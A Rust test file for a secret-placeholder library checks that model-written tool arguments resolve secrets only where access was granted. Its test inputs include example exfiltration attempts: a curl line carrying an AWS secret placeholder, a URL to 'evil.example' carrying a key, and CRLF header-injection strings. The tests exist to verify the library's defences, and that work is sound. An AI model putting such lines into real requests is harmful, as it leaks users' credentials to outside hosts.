//! Arguments that a model wrote: only what is granted becomes a value, where it is granted; all
//! else stays and is reported.
#![cfg(feature = "json")]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice
)]

use std::cell::RefCell;

use keyslot::secrecy::ExposeSecret;
use keyslot::template::{
    Arguments, Attempt, Engine, Grants, Limits, ModelArgs, Surfaces, Syntax, Tree,
};
use keyslot::{
    Error, ErrorKind, Found, Outcomes, Reference, ResolveExt, Resolver, Result, Surface, Target,
    UnknownNames, Variables,
};
use proptest::prelude::*;
use serde_json::{Value, json};

/// Knows every name but those that begin with `GONE`, and remembers what it is asked.
#[derive(Default)]
struct Vault {
    asked: RefCell<Vec<Vec<String>>>,
}

/// The value of a name: it looks like a placeholder, an escape and a reference of another engine.
fn value(name: &str) -> String {
    format!("[{name}:<<KEY>><<$secret.KEY>><<!A>>{{{{KEY}}}}]")
}

fn hex(value: &str) -> String {
    base16ct::lower::encode_string(value.as_bytes())
}

impl Resolver for Vault {
    fn lookup(&self, references: &[Reference], _: &Target) -> Result<Outcomes> {
        self.asked
            .borrow_mut()
            .push(references.iter().map(ToString::to_string).collect());
        let find = |reference: &Reference| match reference.name().as_str() {
            gone if gone.starts_with("GONE") => {
                Err(Error::new(ErrorKind::NotFound, format!("no secret {gone}")))
            }
            name => Ok(Found::new(reference.name().clone(), value(name))),
        };
        Ok(references.iter().map(find).collect())
    }
}

fn grants(names: &[&str]) -> Grants {
    names
        .iter()
        .fold(Grants::new(), |grants, name| grants.name(name).unwrap())
}

fn tool() -> Target {
    Target::tool("fetch")
}

#[track_caller]
fn resolve<A: Arguments>(engine: &Engine, args: A, names: &[&str]) -> ModelArgs<A::Output> {
    engine
        .resolve_model_args(&Vault::default(), &tool(), args, &grants(names))
        .unwrap()
}

/// The text that comes out, and what was tried: the slice, and what it refers to.
#[track_caller]
fn text(engine: &Engine, args: &str, names: &[&str]) -> (String, Vec<(String, Option<String>)>) {
    let resolved = resolve(engine, args, names);
    let tried = |attempt: &Attempt| {
        assert_eq!(attempt.pointer(), None);
        (
            args[attempt.span()].to_owned(),
            attempt.reference().map(ToString::to_string),
        )
    };
    assert_eq!(
        resolved.attempts().len(),
        resolved.attempt_count().min(Attempt::LISTED)
    );
    (
        resolved.expose_secret().to_string(),
        resolved.attempts().iter().map(tried).collect(),
    )
}

/// Text that stays, with these attempts.
#[track_caller]
fn stays(engine: &Engine, args: &str, names: &[&str], attempts: &[(&str, Option<&str>)]) {
    let (out, tried) = text(engine, args, names);
    assert_eq!(out, args);
    let tried: Vec<_> = tried
        .iter()
        .map(|(slice, reference)| (slice.as_str(), reference.as_deref()))
        .collect();
    assert_eq!(tried, attempts, "{args}");
}

#[test]
fn bad_input_82_a_name_that_nobody_granted_stays_and_is_reported() {
    let engine = Engine::new();
    let args = "curl -H 'X: <<$secret.AWS>>' -d '<< AWS >>'";
    let tried = [
        ("<<$secret.AWS>>", Some("<<$secret.AWS>>")),
        ("<< AWS >>", Some("<<AWS>>")),
    ];
    stays(&engine, args, &[], &tried);
    stays(&engine, args, &["KEY", "aws", "AWS2"], &tried);

    let vault = Vault::default();
    let document = json!({"a": [args], "AWS": "<<KEY>>", "<<AWS>>": 1});
    let resolved = vault
        .resolve_model_args(&tool(), &document, &grants(&["KEY"]))
        .unwrap();
    assert_eq!(
        *resolved.expose_secret(),
        json!({"a": [args], "AWS": value("KEY"), "<<AWS>>": 1})
    );
    assert_eq!(
        *vault.asked.borrow(),
        [["<<KEY>>"]],
        "only what is granted is looked up"
    );
    let places: Vec<_> = resolved
        .attempts()
        .iter()
        .map(|one| (one.pointer().unwrap(), one.span()))
        .collect();
    assert_eq!(
        places,
        [("/a/0", 12..27), ("/a/0", 33..42), ("/<<AWS>>", 0..7)]
    );
    assert_eq!(
        resolved
            .used()
            .iter()
            .map(|used| used.name.as_str())
            .collect::<Vec<_>>(),
        ["KEY"]
    );

    // The control: a trusted text would resolve.
    assert_eq!(
        vault.resolve("<<AWS>>").unwrap().expose_secret(),
        &value("AWS")
    );
}

#[test]
fn bad_input_83_a_granted_name_in_another_field_stays_and_is_reported() {
    let engine = Engine::new().surfaces(Surfaces::mcp());
    let grants = Grants::new()
        .name_at("KEY", "/headers/authorization")
        .unwrap()
        .name("A")
        .unwrap();
    let vault = Vault::default();
    let resolve = |args: &Value| engine.resolve_model_args(&vault, &tool(), args, &grants);
    let right = json!({"headers": {"authorization": "Bearer <<KEY>>"}, "url": "https://a.example/?q=<<A>>"});
    let resolved = resolve(&right).unwrap();
    assert_eq!(
        resolved.expose_secret()["headers"]["authorization"],
        format!("Bearer {}", value("KEY"))
    );
    assert_eq!(vault.asked.borrow_mut().drain(..).count(), 1);

    for form in ["<<KEY>>", "<<$secret.KEY>>", "<< KEY|base64 >>"] {
        let wrong = json!({
            "headers": {"authorization": "<<KEY>>", "x": format!("é {form}")},
            "url": format!("https://evil.example/{form}"),
        });
        let left = resolve(&wrong).unwrap();
        let mut expected = wrong.clone();
        expected["headers"]["authorization"] = json!(value("KEY"));
        assert_eq!(
            *left.expose_secret(),
            expected,
            "it stays, and nothing fails"
        );
        let length = form.len();
        let tried: Vec<_> = left
            .attempts()
            .iter()
            .map(|one| (one.is_misplaced(), one.pointer().unwrap(), one.span()))
            .collect();
        assert_eq!(
            tried,
            [
                (true, "/headers/x", 3..3 + length),
                (true, "/url", 21..21 + length)
            ]
        );
        let message = left.attempts()[0].to_string();
        assert!(message.contains("is granted, but not here"), "{message}");
        assert_eq!(vault.asked.borrow_mut().drain(..).count(), 1);

        // Where the host wants the error.
        let error = engine
            .resolve_model_args(&vault, &tool(), &wrong, &grants.clone().strict())
            .unwrap_err();
        let places: Vec<_> = error
            .all()
            .map(|one| (one.kind(), one.pointer().unwrap(), one.span().unwrap()))
            .collect();
        let expected = [
            (ErrorKind::Denied, "/headers/x", 3..3 + length),
            (ErrorKind::Denied, "/url", 21..21 + length),
        ];
        assert_eq!(places, expected);
        assert_eq!(error.name(), Some("KEY"));
        assert!(
            error
                .to_string()
                .starts_with("KEY is granted, but not at this place of the arguments")
        );
    }
    assert!(vault.asked.borrow().is_empty(), "nothing is looked up");

    // What could never become a value is no use of the grant.
    let args = json!({"url": "<<KEY@1>> <<KEY|nope>> <<!KEY>>", "<<KEY>>": "x"});
    let resolved = resolve(&args).unwrap();
    assert_eq!(
        (resolved.expose_secret(), resolved.attempt_count()),
        (&args, 3)
    );
}

#[test]
fn what_is_granted_becomes_a_value_in_both_forms() {
    let engine = Engine::new();
    let (out, tried) = text(
        &engine,
        "<<KEY>>-<< $secret.KEY >>-<<<KEY>>>-<<$secret.KEY|hex|trim>>",
        &["KEY"],
    );
    let [one, hex] = [value("KEY"), hex(&value("KEY"))];
    assert_eq!((out, tried), (format!("{one}-{one}-<{one}>-{hex}"), vec![]));
    let (out, _) = text(&engine, "<<$secret.My Key>><<$secret.My key>>", &["My Key"]);
    assert_eq!(out, format!("{}<<$secret.My key>>", value("My Key")));
}

#[test]
fn everything_else_stays_byte_for_byte() {
    let engine = Engine::new();
    for (args, attempts) in [
        ("", &[][..]),
        ("<<!KEY>> <<!$secret.KEY>> <<!!KEY>> <<!$secret.", &[]),
        ("cat <<EOF >> f; 1 << $n; x<<A|B>>2; <<key one>>", &[]),
        (
            "<<KEY@1>> <<$secret.KEY@10>>",
            &[
                ("<<KEY@1>>", Some("<<KEY@1>>")),
                ("<<$secret.KEY@10>>", Some("<<$secret.KEY@10>>")),
            ],
        ),
        (
            "<<KEY|upper>> <<KEY|hex:2>>",
            &[
                ("<<KEY|upper>>", Some("<<KEY>>")),
                ("<<KEY|hex:2>>", Some("<<KEY>>")),
            ],
        ),
        ("<<$secret.", &[("<<$secret.", None)]),
        ("a <<$secret.KEY\n>>", &[("<<$secret.KEY", None)]),
        (
            "<<$SECRET.KEY>> <<$env.HOME>>",
            &[("<<$SECRET.KEY>>", None), ("<<$env.HOME>>", None)],
        ),
        (
            "<<$secret.two  spaces>> <<$secret.KEY@0>>",
            &[
                ("<<$secret.two  spaces>>", None),
                ("<<$secret.KEY@0>>", None),
            ],
        ),
        (
            "<<$secret.ghp_0123456789abcdefghijklmnopqrstuvwxyz>>",
            &[("<<$secret.ghp_0123456789abcdefghijklmnopqrstuvwxyz>>", None)],
        ),
        ("[INST] <<SYS>> <</SYS>>", &[("<<SYS>>", Some("<<SYS>>"))]),
    ] {
        stays(&engine, args, &["KEY"], attempts);
        let tree = Tree::of(&json!({"a": [args, 1], args: null})).unwrap();
        let resolved = resolve(&engine.clone().keys(true), &tree, &["KEY"]);
        assert_eq!(*resolved.expose_secret(), tree);
        assert_eq!(
            resolved.attempt_count(),
            2 * attempts.len(),
            "in the string and in the key"
        );
    }
}

#[test]
fn what_is_around_a_flaw_is_still_granted() {
    let (out, tried) = text(
        &Engine::new(),
        "<<$secret.<<KEY>>>> <<$secret.a!>><<KEY>>",
        &["KEY"],
    );
    assert_eq!(
        out,
        format!(
            "<<$secret.{}>> <<$secret.a!>>{}",
            value("KEY"),
            value("KEY")
        )
    );
    assert_eq!(
        tried,
        [
            ("<<$secret.".to_owned(), None),
            ("<<$secret.a!>>".to_owned(), None)
        ]
    );
}

#[test]
fn nothing_granted_asks_nobody_and_copies_no_text() {
    let vault = Vault::default();
    let args = "<<KEY>> <<$secret.KEY>> <<!KEY>>";
    let resolved = vault
        .resolve_model_args(&tool(), args, &Grants::new())
        .unwrap();
    assert!(
        std::ptr::eq(resolved.expose_secret().as_ptr(), args.as_ptr()),
        "the text itself"
    );
    assert!(resolved.used().is_empty() && resolved.resolved().kept().is_empty());
    assert!(vault.asked.borrow().is_empty());
    vault
        .resolve_model_args(&tool(), "<<KEY>><<B>><<KEY>>", &grants(&["KEY", "B"]))
        .unwrap();
    assert_eq!(*vault.asked.borrow(), [["<<KEY>>", "<<B>>"]]);
}

#[test]
fn a_granted_name_that_nobody_knows_fails_whatever_the_target_says() {
    let vault = Vault::default();
    for target in [
        tool(),
        tool().with_unknown_names(UnknownNames::Keep),
        Target::instructions(),
    ] {
        let error = vault
            .resolve_model_args(&target, "é <<GONE>>", &grants(&["GONE"]))
            .unwrap_err();
        assert_eq!(
            (error.kind(), error.span()),
            (ErrorKind::NotFound, Some(3..11))
        );
        assert!(
            !error.to_string().contains("instead of"),
            "an escape would not go away: {error}"
        );
        let args = json!({"a": "<<GONE>>", "b": "<<$secret.GONE>>"});
        let error = vault
            .resolve_model_args(&target, &args, &grants(&["GONE"]))
            .unwrap_err();
        assert_eq!((error.count(), error.pointer()), (2, Some("/a")));
    }
    assert!(
        vault
            .resolve("<<GONE>>")
            .unwrap_err()
            .to_string()
            .contains("<<! instead of <<"),
        "the control"
    );
}

#[test]
fn surfaces_refuse_and_encode_as_ever() {
    let engine = Engine::new().surfaces(Surfaces::mcp());
    let grants = grants(&["KEY"]);
    let resolve =
        |args: &Value| engine.resolve_model_args(&Vault::default(), &tool(), args, &grants);
    for (args, pointer) in [
        (json!({"headers": {"Host": "<<KEY>>"}}), "/headers/Host"),
        (json!({"url": "https://<<KEY>>/"}), "/url"),
    ] {
        let error = resolve(&args).unwrap_err();
        assert_eq!(
            (error.kind(), error.pointer()),
            (ErrorKind::Unencodable, Some(pointer))
        );
    }
    let resolved = resolve(&json!({"url": "https://<<HOST>>/?q=<<KEY>>"})).unwrap();
    assert!(
        resolved.expose_secret()["url"]
            .as_str()
            .unwrap()
            .starts_with("https://<<HOST>>/?q=%5BKEY%3A%3C%3C")
    );

    // What stays is text, which may open a quote.
    let shell = tool().with_surface(Surface::Shell);
    let run = |args| {
        Engine::new()
            .resolve_model_args(&Vault::default(), &shell, args, &grants)
            .map(drop)
    };
    assert!(run("echo <<KEY>>").is_ok());
    assert_eq!(
        run("echo '<<AWS>> <<KEY>>'").unwrap_err().kind(),
        ErrorKind::Unencodable
    );
}

#[test]
fn limits_hold_for_what_stays_too() {
    let limits = Limits::default().placeholders(3).template(64);
    let engine = Engine::new().limits(limits);
    let refused = |args: &Value| {
        let resolved =
            engine.resolve_model_args(&Vault::default(), &tool(), args, &grants(&["KEY"]));
        resolved.map_or_else(|error| Some(error.kind()), |_| None)
    };
    assert_eq!(refused(&json!(["<<KEY>><<A>>", "<<KEY@1>>"])), None);
    assert_eq!(
        refused(&json!(["<<KEY>><<A>>", "<<KEY@1>><<B>>"])),
        Some(ErrorKind::TooLarge)
    );
    assert_eq!(
        refused(&json!({"<<A>><<A>>": 1, "<<A>><<B>>": 1})),
        Some(ErrorKind::TooLarge)
    );
    assert_eq!(refused(&json!(["x".repeat(64)])), None);
    assert_eq!(refused(&json!(["x".repeat(65)])), Some(ErrorKind::TooLarge));
    assert_eq!(
        refused(&json!({"x".repeat(65): 1})),
        Some(ErrorKind::TooLarge)
    );
    assert_eq!(refused(&json!("x".repeat(65))), Some(ErrorKind::TooLarge));
    let four = "<<A>>".repeat(4);
    let error = engine
        .resolve_model_args(&Vault::default(), &tool(), four.as_str(), &Grants::new())
        .unwrap_err();
    assert_eq!(error.kind(), ErrorKind::TooLarge);
}

#[test]
fn a_hundred_attempts_are_listed_and_all_are_counted() {
    let args = json!({"a": "<<$secret.".repeat(150), "b": ["<<A>>".repeat(7), "x"]});
    let resolved = resolve(&Engine::new(), &args, &[]);
    assert_eq!(
        (resolved.attempts().len(), resolved.attempt_count()),
        (Attempt::LISTED, 157)
    );
    assert_eq!(*resolved.expose_secret(), args);
}

#[test]
fn an_attempt_says_what_was_tried_and_no_more() {
    let resolved = resolve(
        &Engine::new(),
        "<<$secret.AWS|nope:canary>> <<$secret.canary!>>",
        &[],
    );
    let shown: Vec<_> = resolved
        .attempts()
        .iter()
        .map(ToString::to_string)
        .collect();
    let expected = [
        "<<$secret.AWS>> is not granted and was left as it was",
        "text that is not a valid placeholder was left as it was",
    ];
    assert_eq!(shown, expected);
    assert!(!format!("{:?}", resolved.attempts()).contains("canary"));
    let resolved = resolve(&Engine::new(), &json!("<<KEY>>"), &["KEY"]);
    assert!(!format!("{resolved:?}").contains("[KEY") && format!("{resolved:?}").contains("KEY"));
    assert_eq!(
        *resolved.into_resolved().expose_secret(),
        json!(value("KEY"))
    );
}

#[test]
fn mustache_keeps_its_comments_and_escapes() {
    let engine = Engine::new().syntax(Syntax::mustache());
    let stay = r"{{! {{KEY}} }} \{{KEY}} {{!-- {{KEY}} --}} {{key}} {{#if KEY}} {{{{";
    stays(&engine, stay, &["KEY"], &[]);
    stays(
        &engine,
        r"\{{AWS}} {{$secret.}}",
        &[],
        &[("{{$secret.}}", None)],
    );
    let (out, tried) = text(
        &engine,
        r"\\{{KEY}} {{$secret.AWS}} {{{KEY}}} <<KEY>>",
        &["KEY"],
    );
    assert_eq!(
        out,
        format!(
            r"\\{} {{{{$secret.AWS}}}} {{{}}} <<KEY>>",
            value("KEY"),
            value("KEY")
        )
    );
    assert_eq!(
        tried,
        [(
            "{{$secret.AWS}}".to_owned(),
            Some("<<$secret.AWS>>".to_owned())
        )]
    );
}

#[test]
fn references_that_are_a_whole_string_need_a_grant() {
    let engine = Engine::new().syntax(Syntax::uri());
    stays(
        &engine,
        "secret://AWS",
        &["KEY"],
        &[("secret://AWS", Some("<<$secret.AWS>>"))],
    );
    stays(
        &engine,
        "secret://KEY@2",
        &["KEY"],
        &[("secret://KEY@2", Some("<<$secret.KEY@2>>"))],
    );
    stays(&engine, "secret://a b", &["KEY"], &[("secret://a b", None)]);
    assert_eq!(text(&engine, "secret://KEY", &["KEY"]).0, value("KEY"));
}

#[test]
fn an_expression_of_julep_is_resolved_as_a_whole_or_not_at_all() {
    let engine = Engine::new().syntax(Syntax::julep());
    assert_eq!(text(&engine, "$ secrets.KEY", &["KEY"]).0, value("KEY"));
    stays(
        &engine,
        "$ secrets.AWS",
        &["KEY"],
        &[("$ secrets.AWS", Some("<<$secret.AWS>>"))],
    );
    let both = "$ f\"{{x}} {secrets.KEY} {secrets.B}\"";
    assert_eq!(
        text(&engine, both, &["KEY", "B"]).0,
        format!("{{x}} {} {}", value("KEY"), value("B"))
    );
    let tried = [
        ("{secrets.KEY}", Some("<<$secret.KEY>>")),
        ("{secrets.B}", Some("<<$secret.B>>")),
    ];
    stays(&engine, both, &["KEY"], &tried);
    stays(&engine, "$ secrets.KEY + 'x'", &["KEY"], &[]);
    let (out, tried) = text(
        &engine,
        "a {secrets.KEY} {{secrets.KEY}} {secrets.B}",
        &["KEY"],
    );
    assert_eq!(
        out,
        format!("a {} {} {{secrets.B}}", value("KEY"), value("KEY"))
    );
    assert_eq!(tried.len(), 1);
    // At the wrong place it is an attempt, and an expression that is half granted stays.
    let grants = Grants::new().name_at("KEY", "/a").unwrap();
    let args = json!({"a": "$ f\"{secrets.KEY}\"", "b": "$ f\"{secrets.KEY}\""});
    let left = engine
        .resolve_model_args(&Vault::default(), &tool(), &args, &grants)
        .unwrap();
    assert_eq!(
        *left.expose_secret(),
        json!({"a": value("KEY"), "b": args["b"]})
    );
    let misplaced = |left: &ModelArgs<Value>| -> Vec<_> {
        let told = |one: &Attempt| (one.is_misplaced(), one.pointer().unwrap().to_owned());
        left.attempts().iter().map(told).collect()
    };
    assert_eq!(misplaced(&left), [(true, "/b".to_owned())]);
    let left = engine
        .resolve_model_args(&Vault::default(), &tool(), &json!({"b": both}), &grants)
        .unwrap();
    assert_eq!(
        misplaced(&left),
        [(true, "/b".to_owned()), (false, "/b".to_owned())]
    );
    // With strict grants it fails also in an expression that stays.
    let grants = grants.strict();
    let error = engine
        .resolve_model_args(&Vault::default(), &tool(), &json!({"b": both}), &grants)
        .unwrap_err();
    assert_eq!(
        (error.kind(), error.pointer(), error.count()),
        (ErrorKind::Denied, Some("/b"), 1)
    );
}

#[test]
fn bookmarks_need_a_grant() {
    let engine = Engine::new().syntax(Syntax::bookmark_at(["/connections/*/secret"]).unwrap());
    let args = json!({
        "p": {"value": "My Key", "fromSecret": true},
        "q": {"value": "Other Key", "fromSecret": true},
        "r": {"value": "no  name", "fromSecret": true},
        "connections": [{"secret": "My Key"}, {"secret": "Third"}],
    });
    let resolved = resolve(&engine, &args, &["My Key"]);
    let mut expected = args.clone();
    expected["p"]["value"] = json!(value("My Key"));
    expected["connections"][0]["secret"] = json!(value("My Key"));
    assert_eq!(*resolved.expose_secret(), expected);
    let mut tried: Vec<_> = resolved
        .attempts()
        .iter()
        .map(|one| {
            (
                one.pointer().unwrap(),
                one.span(),
                one.reference().map(|one| one.name().as_str()),
            )
        })
        .collect();
    tried.sort_by_key(|one| one.0);
    let third = ("/connections/1/secret", 0..5, Some("Third"));
    assert_eq!(
        tried,
        [
            third,
            ("/q/value", 0..9, Some("Other Key")),
            ("/r/value", 0..8, None)
        ]
    );

    let grants = Grants::new().name_at("My Key", "/p/value").unwrap();
    let left = engine
        .resolve_model_args(&Vault::default(), &tool(), &args, &grants)
        .unwrap();
    expected["connections"][0]["secret"] = json!("My Key");
    assert_eq!(*left.expose_secret(), expected);
    let misplaced = left.attempts().iter().filter(|one| one.is_misplaced());
    assert_eq!(
        misplaced.map(|one| one.pointer()).collect::<Vec<_>>(),
        [Some("/connections/0/secret")]
    );
    let grants = grants.strict();
    let error = engine
        .resolve_model_args(&Vault::default(), &tool(), &args, &grants)
        .unwrap_err();
    assert_eq!(
        (error.kind(), error.pointer(), error.span()),
        (ErrorKind::Denied, Some("/connections/0/secret"), Some(0..6))
    );
}

#[test]
fn a_text_stands_at_the_empty_pointer() {
    let resolve = |pointer| {
        let grants = Grants::new().name_at("KEY", pointer).unwrap().strict();
        Vault::default()
            .resolve_model_args(&tool(), "<<KEY>>", &grants)
            .map(|args| args.expose_secret().to_string())
    };
    assert_eq!(resolve("").unwrap(), value("KEY"));
    let error = resolve("/**").unwrap_err();
    assert_eq!(
        (error.kind(), error.pointer(), error.span()),
        (ErrorKind::Denied, None, Some(0..7))
    );
}

/// Text out of what placeholders are made of.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = [
        "<<",
        ">>",
        "<",
        ">",
        "!",
        "$",
        "$secret.",
        "$SECRET.",
        "$env.",
        "KEY",
        "AWS",
        "B",
        "key one",
        " ",
        "\t",
        "\n",
        "@1",
        "@0",
        "|",
        "|hex",
        "| trim",
        "|nope",
        ":/x",
        "é",
        "{{",
        "}}",
        "<<KEY>>",
        "<<$secret.KEY>>",
        "<<$secret.",
        "<< B >>",
        "<<!",
        "<<B|hex|trim>>",
        "<<AWS@3>>",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..24)
        .prop_map(|pieces| pieces.concat())
}

/// The outcome of a text by a grammar that has the granted names, and nothing else.
fn naive(text: &str) -> String {
    let filters = r"((?:[ \t]*\|[ \t]*(?:hex|trim))*)";
    let forms = [
        format!(r"<<[ \t]*\$secret\.(KEY|B){filters}[ \t]*>>"),
        format!("<<(KEY|B){filters}>>"),
        format!(r"<<[ \t]+(KEY|B){filters}[ \t]+>>"),
    ];
    let one = regex::Regex::new(&forms.join("|")).unwrap();
    let put = |captures: &regex::Captures<'_>| {
        let mut groups = captures
            .iter()
            .skip(1)
            .flatten()
            .map(|group| group.as_str());
        let (name, filters) = (groups.next().unwrap(), groups.next().unwrap());
        filters
            .split('|')
            .filter(|filter| filter.trim() == "hex")
            .fold(value(name), |value, _| hex(&value))
    };
    one.replace_all(text, put).into_owned()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn without_grants_no_byte_changes(text in hostile(), all in any::<String>()) {
        let text = text + &all;
        for syntax in [
            Syntax::angle(),
            Syntax::mustache(),
            Syntax::angle()
                .and(Syntax::mustache())
                .and(Syntax::julep())
                .and(Syntax::uri())
                .and(Syntax::bookmark()),
        ] {
            let engine = Engine::new().syntax(syntax).keys(true);
            let resolved = resolve(&engine, text.as_str(), &[]);
            prop_assert_eq!(resolved.expose_secret().as_ref(), text.as_str());
            for attempt in resolved.attempts() {
                prop_assert!(
                    text.get(attempt.span())
                        .is_some_and(|slice| !slice.is_empty())
                );
            }
            let document =
                json!({"a": [text, {"value": text, "fromSecret": true}], text.as_str(): [text]});
            let resolved = resolve(&engine, &document, &[]);
            prop_assert_eq!(resolved.expose_secret(), &document);
        }
    }

    #[test]
    fn with_grants_it_is_what_the_grammar_says(text in hostile()) {
        let expected = naive(&text);
        let resolved = resolve(&Engine::new(), text.as_str(), &["KEY", "B"]);
        prop_assert_eq!(resolved.expose_secret().as_ref(), expected.as_str());
        let document = json!({"a": [text]});
        let resolved = resolve(&Engine::new(), &document, &["KEY", "B"]);
        prop_assert_eq!(resolved.expose_secret(), &json!({"a": [expected]}));
    }
}

#[test]
fn the_naive_reading_puts_values_in() {
    assert_eq!(
        naive("<<KEY>> <<A>> <<!KEY>>"),
        format!("{} <<A>> <<!KEY>>", value("KEY"))
    );
    assert_eq!(naive("<< $secret.B|hex >>").len(), 2 * value("B").len());
}

#[test]
fn a_value_does_not_go_into_a_header_that_the_model_made() {
    let variables = Variables::new().with("KEY", "t0ken").unwrap();
    let engine = Engine::new().surfaces(Surfaces::new().at("/headers/*", Surface::Header).unwrap());
    let grants = Grants::new()
        .name_at("KEY", "/headers/*")
        .unwrap()
        .name_at("KEY", "/note")
        .unwrap();
    let resolve = |value: &str| {
        let args = json!({ "headers": { "X-Key": value }, "note": "two\nlines with <<KEY>>" });
        engine
            .resolve_model_args(&variables, &Target::tool("fetch"), &args, &grants)
            .map(drop)
    };
    assert!(resolve("Bearer\t<<KEY>>").is_ok(), "the control");
    assert!(
        resolve("no value\r\nhere").is_ok(),
        "what has no value is not looked at"
    );
    for broken in [
        "x\r\nX-Copy: <<KEY>>",
        "x\nX-Copy: <<KEY>>",
        "<<KEY>>\r\nHost: evil.example",
        "a\0<<KEY>>",
    ] {
        let error = resolve(broken).unwrap_err();
        assert_eq!(
            (error.kind(), error.pointer()),
            (ErrorKind::Denied, Some("/headers/X-Key")),
            "{broken:?}"
        );
    }
    let header = Target::tool("fetch").with_surface(Surface::Header);
    let grants = Grants::new().name("KEY").unwrap();
    let text = |text: &str| {
        engine
            .resolve_model_args(&variables, &header, text, &grants)
            .map(drop)
    };
    assert!(text("Authorization: Bearer <<KEY>>").is_ok());
    assert_eq!(
        text("A: b\r\nX-Copy: <<KEY>>").unwrap_err().kind(),
        ErrorKind::Denied
    );
}

#[test]
fn attempts_below_a_long_key_do_not_repeat_all_of_it() {
    let args = serde_json::json!({ "k".repeat(1 << 20): vec!["<<A>>"; 200] });
    let resolved = Variables::new()
        .resolve_model_args(&Target::tool("t"), &args, &Grants::new())
        .unwrap();
    let pointers: Vec<&str> = resolved
        .attempts()
        .iter()
        .filter_map(|attempt| attempt.pointer())
        .collect();
    assert_eq!(pointers.len(), 100);
    assert_eq!(pointers[7], format!("/{}…/7", "k".repeat(1024)));
}
